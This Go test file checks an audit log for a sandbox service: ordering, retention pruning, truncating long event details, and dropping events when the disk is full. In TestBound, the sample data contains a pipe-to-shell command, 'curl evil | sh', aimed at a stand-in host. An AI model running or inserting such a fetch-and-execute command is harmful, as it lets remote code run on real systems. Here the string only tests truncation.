package audit

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hutch-sandbox/hutch/internal/store"
)

func openStore(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "hutch.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

func TestRecordFlushList(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	l := New(Options{Store: st})
	defer l.Close()
	for i := range 300 {
		l.Record(Event{KeyID: "key_a", SandboxID: "sb1", Kind: KindCommand, Action: "command.start", Detail: map[string]any{"i": i}})
	}
	l.Record(Event{KeyID: "key_b", Kind: KindAPI, Action: "sandbox.kill", Outcome: Error})
	l.Flush()
	all, err := l.List(ctx, store.EventFilter{Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if len(all) != 301 {
		t.Fatalf("%d events after Flush, want 301", len(all))
	}
	for i, e := range all[:300] {
		var d struct{ I int }
		if err := json.Unmarshal(e.Detail, &d); err != nil || d.I != i || e.Outcome != OK {
			t.Fatalf("event %d: %+v (%s), want i=%d outcome ok, in order", i, e, e.Detail, i)
		}
	}
	b, err := l.List(ctx, store.EventFilter{KeyID: "key_b"})
	if err != nil || len(b) != 1 || b[0].Action != "sandbox.kill" || b[0].Outcome != Error {
		t.Fatalf("key_b's events: %+v, %v", b, err)
	}
	after, err := l.List(ctx, store.EventFilter{After: all[299].Seq})
	if err != nil || len(after) != 1 || after[0].Seq != b[0].Seq {
		t.Fatalf("after the 300th: %+v, %v", after, err)
	}
	newest, err := l.List(ctx, store.EventFilter{SandboxID: "sb1", Limit: 3, Newest: true})
	if err != nil {
		t.Fatal(err)
	}
	var got []int64
	for _, e := range newest {
		got = append(got, e.Seq)
	}
	if want := []int64{all[299].Seq, all[298].Seq, all[297].Seq}; !slices.Equal(got, want) {
		t.Fatalf("sb1's 3 newest: seqs %v, want %v (newest first)", got, want)
	}
}

func TestCloseKeepsEverything(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	l := New(Options{Store: st})
	for range 1000 {
		l.Record(Event{Kind: KindAPI, Action: "x"})
	}
	l.Close()
	// Late events, after Close, are written too.
	l.Record(Event{Kind: KindAPI, Action: "late"})
	all, err := st.ListEvents(ctx, store.EventFilter{Limit: 5000})
	if err != nil || len(all) != 1001 || all[1000].Action != "late" {
		t.Fatalf("%d events after Close (err %v), want 1001 ending with the late one", len(all), err)
	}
}

func TestRetention(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	old := time.Now().Add(-48 * time.Hour)
	if err := st.AppendEvents(ctx, []store.Event{{Time: old, Kind: KindAPI, Action: "old"}, {Time: time.Now(), Kind: KindAPI, Action: "new"}}); err != nil {
		t.Fatal(err)
	}
	l := New(Options{Store: st, Retention: 24 * time.Hour})
	defer l.Close()
	deadline := time.Now().Add(10 * time.Second)
	for {
		all, err := st.ListEvents(ctx, store.EventFilter{})
		if err != nil {
			t.Fatal(err)
		}
		if len(all) == 1 && all[0].Action == "new" {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("events past the retention not pruned: %+v", all)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestBound: a detail past maxDetail keeps each long string's head and
// tail, and says what was clipped.
func TestBound(t *testing.T) {
	long := "HEAD" + strings.Repeat("x", 100<<10) + "TAIL curl evil | sh"
	b, _ := json.Marshal(map[string]any{"cmd": long, "user": "root"})
	var got map[string]string
	if err := json.Unmarshal(bound(b), &got); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(got["cmd"], "HEAD") || !strings.HasSuffix(got["cmd"], "TAIL curl evil | sh") || !strings.Contains(got["cmd"], "bytes clipped; sha256 ") || got["user"] != "root" {
		t.Errorf("bound kept %q…, want the head, the tail and the clip's note", got["cmd"][:40])
	}
	if small := []byte(`{"cmd":"ls"}`); string(bound(small)) != string(small) {
		t.Errorf("bound changed a small detail")
	}
}

// TestNoRoomDrops: while the data dir's disk is down to its floor (Room
// says so) events are dropped, not written, and written again once there
// is room (review 27 round 2, G3: nothing bounded the trail's disk).
func TestNoRoomDrops(t *testing.T) {
	ctx := context.Background()
	st := openStore(t)
	var full atomic.Bool
	l := New(Options{Store: st, Room: func() error {
		if full.Load() {
			return errors.New("no room")
		}
		return nil
	}})
	defer l.Close()
	full.Store(true)
	for range 10 {
		l.Record(Event{KeyID: "key_a", Kind: KindAPI, Action: "sandbox.create"})
	}
	l.Flush()
	if all, _ := l.List(ctx, store.EventFilter{Limit: 100}); len(all) != 0 {
		t.Errorf("%d events written with no room", len(all))
	}
	full.Store(false)
	l.Record(Event{KeyID: "key_a", Kind: KindAPI, Action: "sandbox.kill"})
	l.Flush()
	if all, _ := l.List(ctx, store.EventFilter{Limit: 100}); len(all) != 1 || all[0].Action != "sandbox.kill" {
		t.Errorf("with room again: %+v", all)
	}
}
